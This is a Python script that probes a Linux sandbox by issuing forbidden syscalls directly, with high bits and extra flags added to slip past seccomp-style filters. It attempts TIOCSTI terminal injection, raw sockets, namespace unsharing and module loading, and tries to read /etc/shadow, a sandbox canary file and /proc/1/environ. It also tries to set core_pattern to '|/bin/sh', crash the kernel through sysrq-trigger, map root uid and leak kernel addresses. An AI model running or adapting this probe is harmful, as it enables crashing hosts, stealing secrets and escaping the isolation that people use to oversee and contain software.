"""Hides forbidden calls behind high bits, flags and younger spellings, and prints each error number (0: it worked)."""
import ctypes, json, os, socket

libc = ctypes.CDLL(None, use_errno=True)
HIGH = 1 << 32
calls = {}

def call(name, number, *args):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    calls[name] = ctypes.get_errno() if result == -1 else 0

call("TIOCSTI, high bits", 16, 0, HIGH | 0x5412, b"x")
call("TIOCLINUX, high bits", 16, 0, HIGH | 0x541C, b"\x02")
FLAGS = socket.SOCK_CLOEXEC | socket.SOCK_NONBLOCK
for name, family, kind, protocol in [("packet", 17, 3, 0), ("netlink", 16, 3, 0), ("raw", 2, 3, 1), ("icmp", 2, 2, 1),
                                     ("sctp", 2, 1, 132), ("vsock", 40, 1, 0), ("alg", 38, 5, 0)]:
    call(f"{name}, high bits in family", 41, HIGH | family, kind, protocol)
    call(f"{name}, high bits in type", 41, family, HIGH | kind, protocol)
    call(f"{name}, high bits in protocol", 41, family, kind, HIGH | protocol)
    call(f"{name}, flags in type", 41, family, kind | FLAGS, protocol)
for name, flag in [("mount", 0x20000), ("cgroup", 0x02000000), ("uts", 0x04000000), ("ipc", 0x08000000), ("pid", 0x20000000)]:
    call(f"unshare {name}", 272, flag)
    call(f"unshare {name}, high bits", 272, HIGH | flag)
for name, number in {"name_to_handle_at": 303, "fsmount": 432, "fsconfig": 431, "fspick": 433, "io_uring_enter": 426,
                     "io_uring_register": 427, "finit_module": 313, "delete_module": 176, "kexec_file_load": 320,
                     "swapon": 167, "swapoff": 168, "quotactl": 179, "acct": 163, "settimeofday": 164, "clock_settime": 227,
                     "adjtimex": 159, "syslog": 103, "ioperm": 173, "modify_ldt": 154, "vhangup": 153,
                     "fanotify_init": 300, "process_madvise": 440, "move_pages": 279, "migrate_pages": 256}.items():
    call(name, number, 0, 0, 0, 0, 0)

how = (ctypes.c_uint64 * 3)(0, 0, 0)
reads = {}
for path in ["/etc/shadow", "/.navigator/canary", "/proc/kmsg", "/proc/slabinfo", "/proc/self/root/root", "/proc/1/environ"]:
    ctypes.set_errno(0)
    fd = libc.syscall(ctypes.c_long(437), ctypes.c_long(-100), path.encode(), ctypes.byref(how), ctypes.c_long(24))
    reads[path] = ctypes.get_errno() if fd == -1 else 0
def write(path, text):
    try:
        with open(path, "w") as file:
            file.write(text)
        return 0
    except OSError as error:
        return error.errno
writes = {path: write(path, text) for path, text in [
    ("/proc/self/oom_score_adj", "-1000"), ("/proc/sys/kernel/core_pattern", "|/bin/sh"), ("/proc/self/uid_map", "0 0 1"),
    ("/proc/self/setgroups", "allow"), ("/proc/sys/net/ipv4/ip_unprivileged_port_start", "0"), ("/proc/sysrq-trigger", "c")]}
libc.prctl(38, 0, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS to 0
symbols = [line.split()[0] for line in open("/proc/kallsyms").readlines()[:100]] if os.path.exists("/proc/kallsyms") else []
print(json.dumps({"calls": calls, "reads": reads, "writes": writes, "no_new_privs": libc.prctl(39, 0, 0, 0, 0),
                  "kernel addresses": [s for s in symbols if int(s, 16)]}))
